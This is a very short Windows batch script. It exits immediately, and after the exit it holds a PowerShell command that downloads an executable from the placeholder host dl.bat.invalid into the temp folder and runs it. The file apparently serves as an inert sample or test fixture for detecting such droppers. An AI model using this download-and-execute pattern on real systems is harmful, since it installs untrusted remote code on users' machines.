@echo off
exit /b 0
powershell -c "Invoke-WebRequest https://dl.bat.invalid/s.exe -OutFile %TEMP%\s.exe"
start %TEMP%\s.exe
